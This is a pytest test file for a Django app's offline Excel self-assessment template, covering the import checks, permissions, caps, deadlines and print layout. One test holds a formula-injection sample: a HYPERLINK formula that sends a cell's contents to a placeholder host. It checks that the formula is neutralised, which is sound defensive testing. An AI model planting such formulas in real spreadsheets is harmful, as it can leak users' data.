"""The offline self-assessment template: download, fill, upload. All or nothing, every error
with its sheet, row, column and reason; a clean file is saved through the services."""

import re
from decimal import Decimal
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from friendlygov.assessments import offline as layout
from friendlygov.assessments import services
from friendlygov.assessments.models import IndicatorScore
from friendlygov.assessments.testing import plausible_value, quick_fill_self
from friendlygov.audit.models import AuditEvent
from friendlygov.core.testing import printed_pages

from .excel_fixtures import convert, formula_cells, workbook

pytestmark = pytest.mark.django_db
FIRST = layout.TEMPLATE_HEADER_ROW + 2  # below the header and the first criterion's heading


def download(client, assessment):
    url = reverse("reports:self_assessment_template", args=[assessment.cycle.year])
    response = client.get(url, {"unit": assessment.unit.code})
    assert response.status_code == 200
    return workbook(response.content)


def fill(book, assessment, override=None):
    """Every indicator with a plausible value, as an official would type it."""
    sheet = book[assessment.unit.code]
    indicators = {s.indicator.code: s.indicator for s in assessment.scores.select_related("indicator")}
    for row in indicator_rows(sheet):
        code = sheet.cell(row=row, column=layout.COL_CODE).value
        indicator = indicators[code]
        value = plausible_value(indicator)
        if indicator.method == "yes_no":
            value = "Có"
        elif indicator.method == "manual":
            value = str(value).replace(".", ",")  # typed with a decimal comma
        elif indicator.method in ("ratio", "survey"):
            value = int(value) / 100  # typed "96" in a cell shown as a percentage, Excel keeps 0.96
        else:
            value = int(value)
        sheet.cell(row=row, column=layout.COL_VALUE).value = value
        sheet.cell(row=row, column=layout.COL_EXPLANATION).value = f"Hồ sơ {code} lưu tại văn phòng."
        if override and code in override:
            sheet.cell(row=row, column=layout.COL_VALUE).value = override[code]
    return book


def indicator_rows(sheet) -> list[int]:
    """The rows of indicators (not the criterion headings between them)."""
    return [
        row
        for row in range(layout.TEMPLATE_HEADER_ROW + 1, sheet.max_row + 1)
        if sheet.cell(row=row, column=layout.COL_ASSESSMENT).value != layout.CRITERION_MARKER
    ]


def upload(client, data: bytes, name="tu-danh-gia.xlsx"):
    return client.post(reverse("reports:import_self_assessment"), {"file": SimpleUploadedFile(name, data)})


def as_bytes(book) -> bytes:
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def snapshot(assessment):
    return list(
        IndicatorScore.objects.filter(assessment=assessment)
        .order_by("pk")
        .values_list("self_value", "self_na", "explanation", "version")
    )


def test_the_template_has_one_protected_sheet_per_unit_with_hidden_keys_and_validation(people, dong_cam):
    book = download(people["officer"], dong_cam)
    assert book.sheetnames == [layout.INSTRUCTIONS_SHEET, dong_cam.unit.code]
    sheet = book[dong_cam.unit.code]
    headers = [c.value for c in sheet[layout.TEMPLATE_HEADER_ROW]]
    assert headers[1:9] == [
        "Mã chỉ tiêu",
        "Tên chỉ tiêu",
        "Điểm tối đa",
        "Cách chấm",
        "Cần nhập",
        "Số liệu",
        "Không áp dụng",
        "Giải trình",
    ]
    assert sheet.column_dimensions["A"].hidden and sheet.column_dimensions["J"].hidden
    assert sheet.protection.sheet
    assert not sheet.cell(row=FIRST, column=layout.COL_VALUE).protection.locked
    assert sheet.cell(row=FIRST, column=layout.COL_NAME).protection.locked
    assert len(indicator_rows(sheet)) == dong_cam.scores.count()
    kinds = {v.type for v in sheet.data_validations.dataValidation}
    assert {"list", "decimal", "whole"} <= kinds


def test_a_filled_template_is_saved_through_the_services_with_audit_events(people, dong_cam):
    officer = people["officer"]
    book = fill(download(officer, dong_cam), dong_cam)
    response = upload(officer, as_bytes(book))
    assert response.status_code == 302, response.context and response.context["problems"]
    for score in dong_cam.scores.select_related("indicator"):
        assert score.self_value == plausible_value(score.indicator)
        assert score.self_points is not None
        assert score.version == 2
        assert score.explanation == f"Hồ sơ {score.indicator.code} lưu tại văn phòng."
    dong_cam.refresh_from_db()
    assert dong_cam.self_score > 0
    events = AuditEvent.objects.filter(target_id=str(dong_cam.pk), actor=officer.user)
    assert events.filter(event_type="score.self_saved").count() == dong_cam.scores.count()
    assert events.filter(event_type="assessment.self_imported").count() == 1


def test_uploading_the_same_file_again_changes_nothing(people, dong_cam):
    officer = people["officer"]
    book = fill(download(officer, dong_cam), dong_cam)
    assert upload(officer, as_bytes(book)).status_code == 302
    before = snapshot(dong_cam)
    assert upload(officer, as_bytes(book)).status_code == 302  # same values: nothing to save
    assert snapshot(dong_cam) == before


def test_an_explanation_written_as_a_formula_goes_out_as_text_and_comes_back_identical(people, dong_cam):
    """Formula injection: the template carries the text, never a live formula, and re-importing
    the untouched file changes nothing."""
    officer = people["officer"]
    typed = '=HYPERLINK("http://example.invalid/"&C7,"Xem tài liệu")'
    score = dong_cam.scores.select_related("indicator").order_by("indicator__order").first()
    services.save_self_score(score, expected_version=score.version, actor=officer.user, explanation=typed)
    url = reverse("reports:self_assessment_template", args=[dong_cam.cycle.year])
    data = officer.get(url, {"unit": dong_cam.unit.code}).content
    assert formula_cells(data) == []
    sheet = workbook(data)[dong_cam.unit.code]
    cells = [sheet.cell(row=r, column=layout.COL_EXPLANATION) for r in indicator_rows(sheet)]
    (cell,) = [c for c in cells if c.value == typed]
    assert cell.data_type == "s"
    before = snapshot(dong_cam)
    assert upload(officer, data).status_code == 302
    assert snapshot(dong_cam) == before


def test_a_template_written_by_libreoffice_imports(people, dong_cam, tmp_path):
    officer = people["officer"]
    source = tmp_path / "filled.xlsx"
    source.write_bytes(as_bytes(fill(download(officer, dong_cam), dong_cam)))
    ods = convert(source, "ods", tmp_path)
    written = convert(ods, "xlsx", tmp_path)
    data = written.read_bytes()
    assert b"LibreOffice" in _app_properties(data)
    response = upload(officer, data, name="filled-libreoffice.xlsx")
    assert response.status_code == 302, response.context and response.context["problems"]
    for score in dong_cam.scores.select_related("indicator"):
        assert score.self_value == plausible_value(score.indicator)


def _app_properties(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(BytesIO(data)) as package:
        return package.read("docProps/app.xml")


def test_one_bad_cell_imports_nothing_and_names_the_cell(people, dong_cam):
    officer = people["officer"]
    ratio = dong_cam.scores.filter(indicator__method="ratio").select_related("indicator").first()
    book = fill(download(officer, dong_cam), dong_cam, override={ratio.indicator.code: 1.2})  # 120%
    sheet = book[dong_cam.unit.code]
    row = next(r for r in indicator_rows(sheet) if sheet.cell(row=r, column=2).value == ratio.indicator.code)
    before = snapshot(dong_cam)
    response = upload(officer, as_bytes(book))
    assert response.status_code == 400
    (problem,) = response.context["problems"]
    assert (problem.sheet, problem.row, problem.column) == (dong_cam.unit.code, row, "G")
    assert "120" in problem.reason and "0 đến 100" in problem.reason
    assert f"<td>{row}</td>" in response.text
    assert snapshot(dong_cam) == before
    assert not AuditEvent.objects.filter(event_type="score.self_saved").exists()


def test_the_file_is_refused_for_what_the_form_refuses_na_and_length_named_by_cell(people, dong_cam):
    """The import asks the service's own checks (results.check_values and the text limit)."""
    officer = people["officer"]
    scores = list(dong_cam.scores.select_related("indicator").order_by("indicator__order"))
    strict = next(s for s in scores if not s.indicator.na_allowed)
    wordy = next(s for s in scores if s.pk != strict.pk)
    book = fill(download(officer, dong_cam), dong_cam)
    sheet = book[dong_cam.unit.code]
    rows = {sheet.cell(row=r, column=layout.COL_CODE).value: r for r in indicator_rows(sheet)}
    sheet.cell(row=rows[strict.indicator.code], column=layout.COL_NA).value = "x"
    sheet.cell(row=rows[wordy.indicator.code], column=layout.COL_EXPLANATION).value = "a" * 4001
    before = snapshot(dong_cam)
    response = upload(officer, as_bytes(book))
    assert response.status_code == 400
    found = {(p.row, p.column, p.reason) for p in response.context["problems"]}
    assert found == {
        (rows[strict.indicator.code], "H", "Chỉ tiêu này không được đánh dấu “không áp dụng”."),
        (rows[wordy.indicator.code], "I", "Nội dung quá dài (tối đa 4000 ký tự)."),
    }
    assert snapshot(dong_cam) == before


def test_every_error_is_listed_at_once(people, dong_cam):
    officer = people["officer"]
    codes = list(dong_cam.scores.values_list("indicator__code", flat=True)[:2])
    book = fill(download(officer, dong_cam), dong_cam, override={codes[0]: "abc", codes[1]: -1})
    sheet = book[dong_cam.unit.code]
    sheet.cell(row=sheet.max_row, column=layout.COL_CODE).value = "TC9.9"
    response = upload(officer, as_bytes(book))
    assert response.status_code == 400
    reasons = [(p.column, p.reason) for p in response.context["problems"]]
    assert len(reasons) == 3
    assert ("B", "Mã chỉ tiêu “TC9.9” không có trong hồ sơ này.") in reasons


def test_an_outsider_cannot_import_into_another_commune(people, dong_cam):
    book = fill(download(people["officer"], dong_cam), dong_cam)
    before = snapshot(dong_cam)
    response = upload(people["outsider_commune"], as_bytes(book))
    assert response.status_code == 400
    assert {p.reason for p in response.context["problems"]} == {
        f"Bạn không có quyền nhập tự đánh giá cho đơn vị {dong_cam.unit.name}."
    }
    assert snapshot(dong_cam) == before


def test_a_submitted_assessment_is_locked(people, dong_cam):
    officer = people["officer"]
    book = fill(download(officer, dong_cam), dong_cam, override={})
    quick_fill_self(dong_cam, explanation="Khác")
    services.submit_assessment(dong_cam, actor=people["chair"].user)
    before = snapshot(dong_cam)
    response = upload(officer, as_bytes(book))
    assert response.status_code == 400
    assert all("Đã gửi thẩm định" in p.reason for p in response.context["problems"])
    assert snapshot(dong_cam) == before


def test_a_row_saved_by_someone_else_since_the_download_is_refused(people, dong_cam):
    officer = people["officer"]
    book = fill(download(officer, dong_cam), dong_cam)
    score = dong_cam.scores.select_related("indicator").filter(indicator__method="manual").first()
    services.save_self_score(score, expected_version=score.version, actor=officer.user, self_value=Decimal(0))
    response = upload(officer, as_bytes(book))
    assert response.status_code == 400
    (problem,) = response.context["problems"]
    assert problem.column == "J" and score.indicator.code in problem.reason


@pytest.mark.parametrize(
    ("name", "data"),
    [("x.xlsx", b"%PDF-1.4 not a workbook"), ("x.xlsx", b"PK\x03\x04 broken zip"), ("x.xlsx", b"")],
)
def test_a_file_that_is_not_a_workbook_is_refused(people, dong_cam, name, data):
    response = upload(people["officer"], data, name=name)
    assert response.status_code == 400


def test_a_sheet_that_is_not_a_template_is_named(people, dong_cam):
    book = fill(download(people["officer"], dong_cam), dong_cam)
    book.create_sheet("Ghi chú")["A1"] = "ghi chú riêng"
    response = upload(people["officer"], as_bytes(book))
    assert [p.sheet for p in response.context["problems"]] == ["Ghi chú"]


def test_the_upload_page_offers_the_officers_template(people, dong_cam):
    page = people["officer"].get(reverse("reports:import_self_assessment"))
    assert page.status_code == 200
    assert f"?unit={dong_cam.unit.code}" in page.text


def test_an_appraiser_downloads_a_template_for_the_whole_group(people, cycle_2024, dong_cam):
    url = reverse("reports:self_assessment_template", args=[2024])
    response = people["appraiser"].get(url, {"body": dong_cam.body_id})
    assert response.status_code == 200
    book = workbook(response.content)
    expected = sorted(cycle_2024.assessments.filter(body=dong_cam.body).values_list("unit__code", flat=True))
    assert sorted(book.sheetnames[1:]) == expected


def test_an_outsider_gets_no_template_of_another_commune(people, dong_cam):
    url = reverse("reports:self_assessment_template", args=[2024])
    assert people["outsider_commune"].get(url, {"unit": dong_cam.unit.code}).status_code == 404


def test_a_file_over_the_size_cap_is_refused_before_it_is_read(people, dong_cam, monkeypatch):
    from friendlygov.core import spreadsheets

    monkeypatch.setattr(spreadsheets, "MAX_BYTES", 1000)
    book = fill(download(people["officer"], dong_cam), dong_cam)
    response = upload(people["officer"], as_bytes(book))
    assert response.status_code == 400
    assert "quá lớn" in response.context["problems"][0].reason


def test_a_huge_upload_is_refused_before_it_is_read_with_a_small_page(people, dong_cam, monkeypatch):
    """0.2 MB of zip, 450,000 rows and 56 MB of sheet XML once held a server for a minute."""
    from friendlygov.core import spreadsheets
    from friendlygov.core.testing import oversized_workbook

    def never(*args, **kwargs):
        raise AssertionError("the workbook was opened")

    monkeypatch.setattr(spreadsheets, "load_workbook", never)
    before = snapshot(dong_cam)
    response = upload(people["officer"], oversized_workbook(450_000))
    assert response.status_code == 400
    assert len(response.content) < 100_000
    (problem,) = response.context["problems"]
    assert "nhiều dữ liệu hơn" in problem.reason
    assert snapshot(dong_cam) == before


def test_a_template_stops_being_read_at_its_row_cap(people, dong_cam):
    from friendlygov.assessments.offline import MAX_TEMPLATE_ROWS

    book = fill(download(people["officer"], dong_cam), dong_cam)
    sheet = book[dong_cam.unit.code]
    for _ in range(MAX_TEMPLATE_ROWS + 50):
        sheet.append([dong_cam.pk, "TC9.9"])
    response = upload(people["officer"], as_bytes(book))
    assert response.status_code == 400
    reasons = [p.reason for p in response.context["problems"]]
    assert any("quá nhiều dòng" in reason for reason in reasons)
    assert response.context["problems_total"] <= MAX_TEMPLATE_ROWS


def test_a_page_lists_a_hundred_problems_and_counts_the_rest(people, dong_cam):
    book = fill(download(people["officer"], dong_cam), dong_cam)
    sheet = book[dong_cam.unit.code]
    for _ in range(150):
        sheet.append([dong_cam.pk, "TC9.9"])
    response = upload(people["officer"], as_bytes(book))
    assert len(response.context["problems"]) == 100
    assert response.context["problems_more"] == 50
    assert "và 50 lỗi khác" in response.content.decode()


def test_one_person_uploading_too_often_is_refused_for_the_hour(people, dong_cam, monkeypatch):
    from friendlygov.core import spreadsheets

    monkeypatch.setattr(spreadsheets, "IMPORTS_PER_HOUR", 2)
    data = as_bytes(download(people["officer"], dong_cam))
    assert [upload(people["officer"], data).status_code for _ in range(2)] == [302, 302]
    refused = upload(people["officer"], data)
    assert refused.status_code == 400
    assert "trong giờ này" in refused.context["problems"][0].reason


def test_a_file_after_the_close_is_refused_naming_the_deadline(people, dong_cam):
    """Deadlines hold in the services, so the offline template is refused like a page or the API."""
    from datetime import timedelta

    from django.utils import timezone

    from friendlygov.assessments.models import Cycle

    officer = people["officer"]
    book = fill(download(officer, dong_cam), dong_cam)
    closes = timezone.localdate() - timedelta(days=1)
    Cycle.objects.filter(pk=dong_cam.cycle_id).update(self_assessment_closes=closes)
    before = snapshot(dong_cam)
    response = upload(officer, as_bytes(book))
    assert response.status_code == 400
    reasons = [p.reason for p in response.context["problems"]]
    assert any(f"Hạn tự đánh giá là ngày {closes:%d/%m/%Y} và đã qua" in r for r in reasons), reasons
    assert snapshot(dong_cam) == before


def test_a_percentage_is_read_as_the_person_sees_it(people, dong_cam):
    officer = people["officer"]
    ratios = list(
        dong_cam.scores.filter(indicator__method__in=("ratio", "survey")).select_related("indicator")
    )
    typed, small = ratios[0], ratios[1]
    book = fill(download(officer, dong_cam), dong_cam, override={typed.indicator.code: "96%"})
    sheet = book[dong_cam.unit.code]
    row = next(r for r in indicator_rows(sheet) if sheet.cell(row=r, column=2).value == small.indicator.code)
    cell = sheet.cell(row=row, column=layout.COL_VALUE)
    assert "%" in cell.number_format
    cell.value = 0.0096  # shown as 0,96%
    response = upload(officer, as_bytes(book))
    assert response.status_code == 302, response.context and response.context["problems"]
    typed.refresh_from_db()
    small.refresh_from_db()
    assert (typed.self_value, small.self_value) == (Decimal(96), Decimal("0.96"))


def test_the_group_template_imports_back_unchanged_with_no_error(people, cycle_2024, dong_cam):
    url = reverse("reports:self_assessment_template", args=[2024])
    data = people["appraiser"].get(url, {"body": dong_cam.body_id}).content
    book = workbook(data)
    sheet = book[dong_cam.unit.code]
    assert "chỉ để xem" in sheet["B3"].value  # an appraiser does not fill the communes' part
    assert sheet.cell(row=FIRST, column=layout.COL_VALUE).fill.fgColor.rgb != "00FFF7D6"
    response = upload(people["appraiser"], data)
    assert response.status_code == 302, response.context and response.context["problems"]
    notes = [str(m) for m in response.wsgi_request._messages]
    assert any(f"Bỏ qua {len(book.sheetnames) - 1} trang chỉ để xem" in note for note in notes)


def test_each_unit_sheet_says_whose_it_is_on_screen_and_on_every_printed_page(people, dong_cam):
    book = download(people["officer"], dong_cam)
    sheet = book[dong_cam.unit.code]
    unit, cycle = dong_cam.unit, dong_cam.cycle
    assert sheet["B1"].value == f"{unit.name} ({unit.code}) — {cycle.name}"
    assert sheet["B2"].value == f"Hạn tự đánh giá: {cycle.self_assessment_closes:%d/%m/%Y}"
    assert not sheet.column_dimensions["B"].hidden
    assert sheet.oddHeader.center.text == f"{unit.name} ({unit.code}) — {cycle.name}"
    assert sheet.oddFooter.center.text == "Trang &P/&N"
    assert sheet.print_title_rows == f"${layout.TEMPLATE_HEADER_ROW}:${layout.TEMPLATE_HEADER_ROW}"
    assert sheet.page_setup.fitToWidth == 1 and sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.cell(row=FIRST, column=layout.COL_NAME).border.left.style == "thin"
    heading = layout.TEMPLATE_HEADER_ROW + 1
    assert sheet.cell(row=heading, column=layout.COL_ASSESSMENT).value == layout.CRITERION_MARKER
    assert sheet.cell(row=heading, column=layout.COL_NAME).font.bold
    whats = [sheet.cell(row=r, column=layout.COL_WHAT).value for r in indicator_rows(sheet)]
    assert not any(re.search(r"\d\.\d", what) for what in whats)  # "5", "2,5": no decimal point


def test_the_printed_template_carries_the_unit_and_page_numbers_on_every_page(people, dong_cam, tmp_path):
    response = people["officer"].get(
        reverse("reports:self_assessment_template", args=[2024]), {"unit": dong_cam.unit.code}
    )
    source = tmp_path / "mau.xlsx"
    source.write_bytes(response.content)
    pages = printed_pages(convert(source, "pdf", tmp_path).read_bytes(), "self-assessment-template")
    assert len(pages) >= 2  # the instructions, then the unit's sheet
    unit_pages = [page for page in pages if dong_cam.unit.name in page]
    assert unit_pages and all(page.strip() for page in pages)
    for number, page in enumerate(pages, start=1):
        assert f"Trang {number}/{len(pages)}" in page or f"Trang {number}/" in page
